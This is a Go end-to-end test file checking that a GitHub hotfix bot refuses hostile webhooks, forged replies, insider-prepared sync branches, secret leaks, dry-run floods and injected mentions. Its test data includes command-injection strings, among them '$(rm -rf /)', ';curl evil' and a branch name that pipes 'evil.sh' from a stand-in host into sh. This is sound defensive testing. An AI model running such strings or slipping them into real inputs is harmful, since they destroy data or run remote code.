package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/hotfix-bot/hotfix-bot/internal/ghsim"
	"github.com/hotfix-bot/hotfix-bot/internal/harness"
	"github.com/hotfix-bot/hotfix-bot/policy"
)

// Hostile input: each gets a clear refusal or is ignored, and nothing
// changes on GitHub but the bot's answer.
func TestHostileInput(t *testing.T) {
	w := start(t, harness.Options{})
	r, in := w.in.Repo, w.in
	n, _ := w.approvedHotfix("hotfix/target")
	writesSince := func(mark int) []ghsim.Call {
		var out []ghsim.Call
		for _, c := range w.h.Sim.Calls()[mark:] {
			if c.Write && !strings.HasSuffix(c.Path, "/access_tokens") {
				out = append(out, c)
			}
		}
		return out
	}
	onlyAnswers := func(name string, mark int) {
		t.Helper()
		for _, c := range writesSince(mark) {
			if c.Op != "reactions/create-for-issue-comment" && c.Op != "issues/create-comment" {
				t.Errorf("%s: wrote %s %s", name, c.Method, c.Path)
			}
		}
		if len(w.botDeployments()) != 0 {
			t.Errorf("%s: deployed", name)
		}
	}
	signed := func(event string, body []byte) int {
		codes, err := w.h.Sim.DeliverRaw(w.ctx, w.h.App, event, body, w.h.App.Signature256(body))
		if err != nil {
			t.Fatal(err)
		}
		w.settle()
		return codes[0]
	}

	t.Run("not JSON, correctly signed", func(t *testing.T) {
		mark := len(w.h.Sim.Calls())
		// Bodies that start as an object does are judged by the door's
		// own reading of them, which must refuse them too.
		for _, body := range []string{"not json", "[1,2,3]", `"a string"`, "", `{"action":"created"`, `{not json}`, `{} {}`, ` {"action":"created","comment":{"id":1}}]`} {
			if code := signed("issue_comment", []byte(body)); code != http.StatusBadRequest {
				t.Errorf("%q: status %d, want 400", body, code)
			}
		}
		onlyAnswers("not JSON", mark)
	})
	t.Run("missing and null fields", func(t *testing.T) {
		mark := len(w.h.Sim.Calls())
		for _, c := range []struct{ event, body string }{
			{"issue_comment", `{"action":"created"}`},
			{"issue_comment", `{"action":"created","comment":null,"issue":null,"installation":null}`},
			{"issue_comment", `{"action":"created","comment":{"id":1,"body":"/promote","user":{"login":"rob","type":"User"}},"issue":{"number":1},"repository":{"name":"payments","owner":{"login":"acme"}}}`},
			{"pull_request", `{"action":"opened","pull_request":null}`},
			{"pull_request", `{"action":"synchronize","number":1,"pull_request":{"head":{"ref":"hotfix/x"}},"installation":{"id":1}}`},
			{"push", `{"ref":"refs/heads/hotfix/x"}`},
			{"push", `{"ref":"refs/heads/hotfix/x","after":null,"repository":null,"installation":{"id":1}}`},
			{"deployment_status", `{"action":"created","deployment_status":{"state":"success"}}`},
			{"deployment_status", `{"action":"created","deployment_status":{"state":"success"},"deployment":{"id":5,"payload":"{\"hotfix_bot\":1"}}`},
			{"check_run", `{"action":"rerequested","check_run":null}`},
		} {
			if code := signed(c.event, []byte(c.body)); code/100 != 2 {
				t.Errorf("%s %s: status %d", c.event, c.body, code)
			}
		}
		onlyAnswers("missing fields", mark)
		w.noHandlerErrors()
	})
	t.Run("a payload signed for another event", func(t *testing.T) {
		mark := len(w.h.Sim.Calls())
		var promote []byte
		for _, d := range w.h.Sim.Deliveries() {
			if d.Event == "pull_request" {
				promote = d.Payload
			}
		}
		id := must[int64](t)(r.Comment(in.Rob, n, "/promote"))
		w.h.Sim.DiscardPending()
		// Rebuild Rob's comment event as the simulator would have sent it.
		comment := commentPayload(t, w, n, id, "/promote")
		for _, event := range []string{"deployment_status", "push", "check_run", "pull_request"} {
			if code := signed(event, comment); code/100 != 2 {
				t.Errorf("a comment as %s: status %d", event, code)
			}
		}
		for _, event := range []string{"issue_comment", "deployment_status"} {
			if code := signed(event, promote); code/100 != 2 {
				t.Errorf("a pull_request as %s: status %d", event, code)
			}
		}
		onlyAnswers("mislabelled events", mark)
		if len(w.replies(n, id)) != 0 {
			t.Error("a comment delivered under another event's name was answered")
		}
	})
	t.Run("an enormous comment", func(t *testing.T) {
		mark := len(w.h.Sim.Calls())
		huge := strings.Repeat("x", 70000) + "\n/promote"
		id := must[int64](t)(r.Comment(in.Rob, n, huge))
		w.settle()
		if len(w.replies(n, id)) != 0 {
			t.Error("a command past the readable part of a comment was run")
		}
		many := strings.Repeat("/help\n", 500)
		id = must[int64](t)(r.Comment(in.Ivan, n, many))
		w.settle()
		if got := len(w.replies(n, id)); got != 11 {
			t.Errorf("%d replies to 500 commands, want the first 10 and a note", got)
		}
		if got := w.botComments(n, fmt.Sprintf("hotfix-bot:reply:%d:more", id)); len(got) != 1 {
			t.Error("no note that the rest were ignored")
		}
		onlyAnswers("enormous comments", mark)
	})
	t.Run("injection in arguments", func(t *testing.T) {
		mark := len(w.h.Sim.Calls())
		for _, cmd := range []string{
			"/hotfix start ../../x", "/hotfix start refs/heads/main", "/hotfix start x`id`", "/hotfix start $(rm -rf /)",
			"/hotfix start a\tb", "/rollback v1.4.1;curl evil", "/rollback ../../v1", "/promote --emergency",
		} {
			id := must[int64](t)(r.Comment(in.Rob, n, cmd))
			w.settle()
			if got := w.replies(n, id); len(got) != 1 || !strings.Contains(got[0].Body, "Usage:") {
				t.Errorf("%q: replies %v", cmd, got)
			}
		}
		onlyAnswers("injection", mark)
	})
	t.Run("a forged reply marker does not silence the bot", func(t *testing.T) {
		mallory := w.h.Sim.User("mallory")
		r.SetRole("mallory", "write")
		id := must[int64](t)(r.Comment(in.Rob, n, "/promote --dry-run"))
		// Before the bot reads Rob's comment, Mallory posts what looks like
		// the bot's answer to it.
		must[int64](t)(r.Comment(mallory, n, fmt.Sprintf("👎 refused\n<!-- hotfix-bot:reply:%d:1 -->\n<!-- hotfix-bot:outcome:refused -->", id)))
		w.settle()
		if got := w.replies(n, id); len(got) != 1 || !strings.Contains(got[0].Body, "Dry run") {
			t.Errorf("replies = %v, want the bot's own answer", got)
		}
	})
}

// commentPayload is a signed-shape issue_comment delivery for a comment.
func commentPayload(t *testing.T, w *world, n int, id int64, body string) []byte {
	t.Helper()
	p := map[string]any{
		"action":       "created",
		"comment":      map[string]any{"id": id, "body": body, "user": map[string]any{"login": "rob", "type": "User"}, "created_at": "2026-11-23T03:00:00Z"},
		"issue":        map[string]any{"number": n, "pull_request": map[string]any{"url": "x"}},
		"repository":   map[string]any{"name": "payments", "full_name": "acme/payments", "default_branch": "main", "owner": map[string]any{"login": "acme", "type": "User"}},
		"installation": map[string]any{"id": w.in.Inst.ID},
		"sender":       map[string]any{"login": "rob", "type": "User"},
	}
	b, _ := json.Marshal(p)
	return b
}

// Secrets (the private key, the webhook secret, installation tokens, the
// Slack URL) never appear in logs, replies, check runs or metrics, through
// a whole lifecycle at debug level.
func TestSecretsNeverLeak(t *testing.T) {
	slack := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { _, _ = io.Copy(io.Discard, r.Body) }))
	defer slack.Close()
	slackURL := slack.URL + "/services/T1/B1/slack-secret-token"
	w := start(t, harness.Options{SlackWebhookURL: slackURL}) // every level is logged
	n, _ := w.approvedHotfix("hotfix/payment-timeout")
	w.comment(w.in.Rob, n, "/promote")
	d, _ := w.onlyDeployment()
	w.report(d.ID, "failure")
	ds := w.botDeployments()
	w.report(ds[len(ds)-1].ID, "success")
	noErr(t, w.h.FlushNotifications(w.ctx))

	secrets := map[string]string{
		"webhook secret": w.h.App.WebhookSecret,
		"Slack URL":      "slack-secret-token",
	}
	for _, line := range strings.Split(w.h.App.PrivateKeyPEM, "\n") {
		if len(line) > 40 && !strings.HasPrefix(line, "-----") {
			secrets["private key"] = line
			break
		}
	}
	for i, tok := range w.h.Sim.Tokens() {
		secrets[fmt.Sprintf("installation token %d", i)] = tok
	}
	var metrics strings.Builder
	for _, b := range w.h.Bots {
		rec := httptest.NewRecorder()
		b.Handler().ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/metrics", nil))
		metrics.WriteString(rec.Body.String())
	}
	var written strings.Builder
	for _, is := range w.in.Repo.Issues() {
		written.WriteString(is.Title + is.Body)
		for _, c := range w.in.Repo.Comments(is.Number) {
			written.WriteString(c.Body)
		}
	}
	for _, cr := range w.in.Repo.CheckRuns(d.SHA) {
		written.WriteString(cr.Title + cr.Summary)
	}
	for what, secret := range secrets {
		if secret == "" {
			t.Fatalf("no %s to look for", what)
		}
		for where, text := range map[string]string{"logs": w.log.String(), "metrics": metrics.String(), "GitHub": written.String()} {
			if strings.Contains(text, secret) {
				t.Errorf("the %s appears in the %s", what, where)
			}
		}
	}
}

// An insider who knows the next tag (the /promote plan announces it)
// prepares the sync branches: one with a commit of theirs and a pull
// request opened and closed from it, one with a commit and no pull
// request. The bot uses neither, says so on the hotfix pull request, syncs
// from fresh names with exactly the release, and a redelivered success
// opens nothing more.
func TestSyncBackIgnoresWhatAnInsiderPrepared(t *testing.T) {
	w := start(t, harness.Options{})
	r, in := w.in.Repo, w.in
	mallory := w.h.Sim.User("mallory")
	r.SetRole("mallory", "write")
	devName, relName := "hotfix-bot/sync/v1.4.3-to-develop", "hotfix-bot/sync/v1.4.3-to-release/1.5"
	must[string](t)(r.CreateBranch(mallory, devName, "develop"))
	must[string](t)(r.Push(mallory, devName, "Sync v1.4.3 into develop\n\nhotfix-bot sync commit", ghsim.Files{"payments/backdoor.go": "package payments\n"}))
	closed := must[int](t)(r.OpenPR(mallory, devName, "develop", "Sync v1.4.3 into develop"))
	noErr(t, r.ClosePR(mallory, closed))
	must[string](t)(r.CreateBranch(mallory, relName, "release/1.5"))
	must[string](t)(r.Push(mallory, relName, "Sync", ghsim.Files{"payments/backdoor.go": "package payments\n"}))
	w.settle()

	n, head := w.approvedHotfix("hotfix/payment-timeout")
	w.comment(in.Rob, n, "/promote")
	d, _ := w.onlyDeployment()
	w.report(d.ID, "success")

	botSyncs := func(base string) []ghsim.Issue {
		var out []ghsim.Issue
		for _, is := range w.pullsInto(base, "hotfix-bot/sync/") {
			if is.User.Type == "Bot" {
				out = append(out, is)
			}
		}
		return out
	}
	for base, name := range map[string]string{"develop": devName, "release/1.5": relName} {
		got := botSyncs(base)
		if len(got) != 1 || got[0].PR.HeadRef != name+"-2" {
			t.Fatalf("the bot's sync PRs into %s: %+v, want one from %s-2", base, got, name)
		}
		// Exactly the release: one commit of the bot's on the tag, with its tree.
		if r.CommitMessage(got[0].PR.HeadSHA) == "" || r.Branch(name) == got[0].PR.HeadSHA {
			t.Errorf("the sync into %s comes from the prepared branch", base)
		}
		if files := r.Diff(head, got[0].PR.HeadSHA); len(files) != 0 {
			t.Errorf("the sync into %s carries more than the release: %v", base, files)
		}
	}
	if pr, _ := r.PR(closed); pr.State != "closed" {
		t.Error("the insider's pull request was touched")
	}
	summary := w.botComments(n, "hotfix-bot:deployed:")
	if len(summary) != 1 {
		t.Fatalf("%d summaries", len(summary))
	}
	for _, want := range []string{"left alone, not the bot's", "`" + devName + "`", "`" + relName + "`", "someone else put commits there",
		fmt.Sprintf("#%d (closed, by `mallory`)", closed), "from `" + devName + "-2`"} {
		if !strings.Contains(summary[0].Body, want) {
			t.Errorf("summary lacks %q:\n%s", want, summary[0].Body)
		}
	}

	// A redelivered success finds the same names and opens nothing more.
	var success []ghsim.Delivery
	for _, dl := range w.h.Sim.Deliveries() {
		if dl.Event == "deployment_status" && strings.Contains(string(dl.Payload), `"state":"success"`) {
			success = append(success, dl)
		}
	}
	for _, dl := range success {
		noErr(t, w.h.Sim.Redeliver(w.ctx, dl.ID))
	}
	w.settle()
	if len(botSyncs("develop")) != 1 || len(botSyncs("release/1.5")) != 1 {
		t.Errorf("a redelivery opened more sync PRs: %d into develop, %d into release/1.5", len(botSyncs("develop")), len(botSyncs("release/1.5")))
	}
	w.noHandlerErrors()
}

// On a public repository anyone can ask for a dry run: a flood of them
// from one person costs one real evaluation a minute; the rest get one
// short reply each, without a 👀, a permission read or any gate read,
// and are counted.
func TestFloodOfDryRuns(t *testing.T) {
	w := start(t, harness.Options{})
	r, ivan := w.in.Repo, w.in.Ivan
	n, _ := w.approvedHotfix("hotfix/payment-timeout")
	first := w.comment(ivan, n, "/promote --dry-run")
	w.reply(n, first, "Dry run")
	for i := 0; i < 5; i++ {
		mark := len(w.h.Sim.Calls())
		id := must[int64](t)(r.Comment(ivan, n, "/promote --dry-run"))
		w.settle()
		w.reply(n, id, "One dry run per person per minute on a pull request", "nothing was run")
		if got := w.reactions(n, id); len(got) != 0 {
			t.Errorf("reactions %v on a limited dry run", got)
		}
		var calls []string
		for _, c := range w.h.Sim.Calls()[mark:] {
			if !strings.HasSuffix(c.Path, "/access_tokens") {
				calls = append(calls, c.Method+" "+c.Path)
			}
		}
		if len(calls) > 2 {
			t.Errorf("a limited dry run cost %d requests, want at most 2 (find its reply, write it): %v", len(calls), calls)
		}
	}
	// Someone else, and Ivan a minute later, are answered in full.
	w.reply(n, w.comment(w.in.Dana, n, "/promote --dry-run"), "Dry run")
	w.h.Sim.Clock().Advance(time.Minute)
	w.reply(n, w.comment(ivan, n, "/promote --dry-run"), "Dry run")

	rec := httptest.NewRecorder()
	w.h.Bots[0].Handler().ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/metrics", nil))
	if !strings.Contains(rec.Body.String(), `hotfixbot_cost_limited_total{what="dry_run"} 5`) {
		t.Errorf("the limited dry runs are not counted:\n%s", rec.Body.String())
	}
	w.noHandlerErrors()
}

// Names and texts someone else chose, through a whole story: a branch
// name that runs a command, a release branch named like one, commit and
// pull request titles, an emergency reason, command arguments and what
// the CD system says, all mentioning a team and a person. Every command
// the bot prints quotes the names, and nothing the bot writes mentions
// anyone it was told to.
func TestHostileNamesAndMentions(t *testing.T) {
	w := start(t, harness.Options{})
	r, in := w.in.Repo, w.in
	const team, person = "acme/everyone", "victim"
	must[string](t)(r.Push(in.Rob, "main", "Emergency list", ghsim.Files{".github/hotfix-bot.yml": "commands:\n  emergency:\n    users: [rob]\n"}))
	must[string](t)(r.Push(in.Dana, "develop", "Ping @acme/everyone and @victim", ghsim.Files{"payments/ping.go": "package payments\n"}))
	evil := "release/1.5;touch${IFS}pwned"
	must[string](t)(r.CreateBranch(in.Dana, evil, "release/1.5"))
	w.settle()

	// A branch cut from develop with a name that runs a command.
	branch := "hotfix/$(curl${IFS}evil.sh|sh)"
	must[string](t)(r.CreateBranch(in.Dana, branch, "develop"))
	bad := must[string](t)(r.Push(in.Dana, branch, "Fix", ghsim.Files{"payments/fix.go": "package payments\n"}))
	w.settle()
	w.expect(bad, policy.CheckBase, policy.Failure, "'"+branch+"'\n", "git switch -c '"+branch+"-2' v1.4.2", "Ping @\u200dacme/everyone")

	n, _ := w.approvedHotfix("hotfix/payment-timeout")
	noErr(t, r.EditPR(in.Dana, n, "Fix it @acme/everyone `@victim` <b>now</b>"))
	w.settle()
	usage := w.comment(in.Rob, n, "/promote --@acme/everyone")
	w.reply(n, usage, "unknown option `--@acme/everyone`")
	w.comment(in.Rob, n, "/rollback @victim")
	w.comment(in.Rob, n, "/promote --emergency checkout is down, cc @acme/everyone and @victim")
	d, _ := w.onlyDeployment()
	noErr(t, r.SetDeploymentStatusWithLog(in.CD, d.ID, "failure", "ask @acme/everyone", "https://ci.example.com/x) @victim [y](z"))
	w.settle()
	ds := w.botDeployments()
	w.report(ds[len(ds)-1].ID, "success") // the automatic rollback
	w.comment(in.Rob, n, "/promote --emergency still down, @victim")
	ds = w.botDeployments()
	w.report(ds[len(ds)-1].ID, "success")
	syncs := w.pullsInto(evil, "hotfix-bot/sync/")
	if len(syncs) != 1 {
		t.Fatalf("%d sync PRs into %s", len(syncs), evil)
	}
	if cs := w.botComments(syncs[0].Number, "git switch 'hotfix-bot/sync/v1.4.3-to-"+evil+"' && git merge 'origin/"+evil+"'"); len(cs) != 1 {
		t.Errorf("the conflict instructions do not quote the names: %+v", w.botComments(syncs[0].Number, "git "))
	}

	// Everything the bot wrote: comments, issues, pull requests, checks.
	var written []string
	for _, is := range r.Issues() {
		if is.User.Type == "Bot" {
			written = append(written, is.Title+"\n"+is.Body)
		}
		for _, c := range r.Comments(is.Number) {
			if c.User.Type == "Bot" {
				written = append(written, c.Body)
			}
		}
	}
	for _, sha := range []string{bad, r.Branch("main"), r.TagCommit("v1.4.3"), syncs[0].PR.HeadSHA} {
		for _, cr := range r.CheckRuns(sha) {
			written = append(written, cr.Title+"\n"+cr.Summary)
		}
	}
	if len(written) < 15 {
		t.Fatalf("only %d texts written: the story did not run", len(written))
	}
	seen := map[string]bool{}
	for _, text := range written {
		for _, m := range ghsim.Mentions(text) {
			seen[m] = true
			if m == team || m == person {
				t.Errorf("@%s is mentioned in:\n%s", m, text)
			}
		}
		if strings.Contains(text, "[y](z") || strings.Contains(text, "<b>") {
			t.Errorf("markup someone else wrote came through:\n%s", text)
		}
	}
	if !seen["rob"] {
		t.Errorf("the test found no mention at all (%v): the scan is broken", seen)
	}
	if len(w.incidentIssues()) != 1 {
		t.Error("the story did not reach the incident issue")
	}
}
